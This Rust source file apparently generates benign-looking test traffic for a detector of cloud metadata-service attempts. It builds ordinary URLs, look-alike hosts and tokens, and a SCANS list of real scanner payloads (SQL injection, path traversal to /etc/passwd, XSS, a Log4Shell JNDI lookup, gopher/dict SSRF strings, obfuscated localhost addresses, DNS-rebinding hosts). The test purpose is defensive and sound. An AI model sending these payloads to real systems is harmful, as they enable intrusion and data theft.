//! Words, paths, names and URLs of ordinary sites that look like parts of an attempt.
//!
//! The names of metadata services that are ordinary words, such as `metadata`, stand as words here, never as a host.

use super::{place, push_percent};
use crate::dice::Dice;
use crate::request::{Request, push_private, push_public, push_v6, put};
use ::base64::Engine;
use ::base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

const SITES: &[&str] = &[
    "https://www.example.org/path?q=1&lang=de",
    "http://shop.example.com/cart#top",
    "https://user@mail.example.net/inbox",
    "https://login.example.com/oauth2/authorize?client_id=7&redirect_uri=https://app.example.org/cb",
    "http://[2001:db8::1]:8080/",
    "https://xn--bcher-kva.example/regal",
    "ftp://files.example.net/pub/a.iso",
    "//cdn.example.net/lib.js",
    "https://203.0.113.7/status",
];

const WORDS: &[&str] = &[
    "metadata",
    "user-data",
    "meta-data-driven",
    "instance-database",
    "what+is+instance+metadata",
    "security-credentials+explained",
    "iam+roles+anywhere",
    "computeMetadata+class",
    "link-local+addresses",
    "open-data-server",
    "token",
    "latest+api",
    "metadata.json",
    "image.metadata.title",
];

const LATEST: &[&str] = &[
    "/docs/latest/user-guide.html",
    "/latest/",
    "/latest/posts?page=2",
    "/api/latest/tokens",
    "/releases/latest/download/app.zip",
    "/en/latest/meta-data.html",
    "/v2/catalog/items",
    "/v4/query",
    "/metadata/site.xml",
    "/latest/dynamic-typing.html",
    "/v1/users/17",
    "/userdata-export/status",
    "/configuration?format=json",
];

const SIMILAR: &[&str] = &[
    "metadata.example.com",
    "instance-data.example.org",
    "metadata-google-internal.example.net",
    "data-server.example.com",
    "tencentyun.example.org",
    "instance-data-prod.example.org",
    "metadata.google.com",
];

/// What scanners send that is no attempt at a metadata service.
const SCANS: &[&str] = &[
    "1'%20OR%20'1'='1",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afwindows%c0%afwin.ini",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "${jndi:ldap://scan.example.net/a}",
    "http://127.0.0.1:22/",
    "http%3A%2F%2Flocalhost%3A3306%2F",
    "http://scan.example.net/x?u=%0d%0aSet-Cookie:a=b",
    "\\x3cscript\\x3e",
    "%u003cscript%u003e",
    "file:///etc/hosts",
    "gopher://scan.example.net:70/_GET%20/%20HTTP/1.0%0d%0a",
    "http://0x7f000001/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "dict://203.0.113.9:11211/stat",
];

pub(super) fn encoded_url(request: &mut Request, dice: &mut Dice) {
    let mut text = String::from(dice.pick(&["next=", "redirect_uri=", "url=", ""]));
    push_percent(&mut text, dice.pick(SITES));
    place(request, &text, dice);
}

/// Two to four layers.
pub(super) fn nested_url(request: &mut Request, dice: &mut Dice) {
    let mut text = (dice.pick(SITES)).to_owned();
    for _ in 0..dice.between(2, 4) {
        let mut outer = String::with_capacity(text.len() * 2);
        push_percent(&mut outer, &text);
        text = outer;
    }
    place(request, &text, dice);
}

/// Names of pages made from requests, with the sign for the percent sign.
pub(super) fn slug(request: &mut Request, dice: &mut Dice) {
    let mut text = String::new();
    push_percent(&mut text, dice.pick(SITES));
    put(&mut request.target, "/archive/request-url-");
    request.target.push_str(&text.replace('%', dice.pick(&["-", "_", "."])));
}

pub(super) fn word(request: &mut Request, dice: &mut Dice) {
    if dice.chance(30) {
        put(&mut request.target, "/wiki/");
        request.target.push_str(dice.pick(WORDS));
    } else {
        place(request, dice.pick(WORDS), dice);
    }
}

pub(super) fn latest_path(request: &mut Request, dice: &mut Dice) {
    put(&mut request.target, dice.pick(LATEST));
}

pub(super) fn similar_host(request: &mut Request, dice: &mut Dice) {
    let host = dice.pick(SIMILAR);
    match dice.below(3) {
        0 => put(&mut request.host, host),
        1 => {
            put(&mut request.referer, "https://");
            request.referer.push_str(host);
            request.referer.push('/');
        }
        _ => place(request, &["http%3A%2F%2F", host, "%2Flatest%2F"].concat(), dice),
    }
}

/// Tokens of web applications and binary blobs. The bytes of a blob are beyond ASCII: nothing readable is in it.
pub(super) fn base64(request: &mut Request, dice: &mut Dice) {
    let mut text = String::new();
    if dice.chance(50) {
        let id = dice.below(1_000_000);
        for part in
            ["{\"alg\":\"RS256\",\"typ\":\"JWT\"}", &format!("{{\"sub\":\"{id}\",\"scope\":\"read\"}}")]
        {
            URL_SAFE_NO_PAD.encode_string(part, &mut text);
            text.push('.');
        }
        URL_SAFE_NO_PAD.encode_string(blob(64, dice), &mut text);
    } else {
        let length = dice.between(20, 400) as usize;
        STANDARD.encode_string(blob(length, dice), &mut text);
        text = text.replace('+', "%2B");
    }
    place(request, &text, dice);
}

fn blob(length: usize, dice: &mut Dice) -> Vec<u8> {
    (0..length).map(|_| dice.byte(0x80, 0xFF)).collect()
}

pub(super) fn scanner(request: &mut Request, dice: &mut Dice) {
    place(request, dice.pick(SCANS), dice);
    request.status = 404;
}

const NAMES: &[&str] = &[
    "www.example.com",
    "api.example.org",
    "sqs.eu-west-1.amazonaws.com",
    "sts.amazonaws.com",
    "ec2.internal.example.net",
    "registry.example.io",
    "_http._tcp.example.org",
    "ip-10-0-3-17.eu-west-1.compute.internal",
];

pub(super) fn dns_ordinary(request: &mut Request, dice: &mut Dice) {
    put(&mut request.host, dice.pick(NAMES));
    request.peer.clear();
    match dice.below(4) {
        0 => push_v6(&mut request.peer, dice),
        1 => push_private(&mut request.peer, dice),
        _ => push_public(&mut request.peer, dice),
    }
}

pub(super) fn dns_similar(request: &mut Request, dice: &mut Dice) {
    dns_ordinary(request, dice);
    match dice.below(3) {
        0 => put(&mut request.host, "169-254-1-1.nip.io"),
        1 => put(&mut request.host, "0a000001.0a000002.rbndr.us"),
        _ => put(&mut request.host, dice.pick(SIMILAR)),
    }
}

/// The name behind a neighbour's address, and answers with one.
pub(super) fn dns_neighbour(request: &mut Request, dice: &mut Dice) {
    dns_ordinary(request, dice);
    if dice.chance(50) {
        put(&mut request.host, "253.169.254.169.in-addr.arpa");
    } else {
        put(&mut request.host, "time.internal.example.net");
        put(&mut request.peer, dice.pick(&["169.254.169.123", "169.254.1.1", "fd00:ec2::123"]));
    }
}

pub(super) fn dns_no_answer(request: &mut Request, dice: &mut Dice) {
    put(
        &mut request.host,
        dice.pick(&["wpad.example.net", "metadata.corp.example.com", "nowhere.example.org"]),
    );
    request.peer.clear();
}
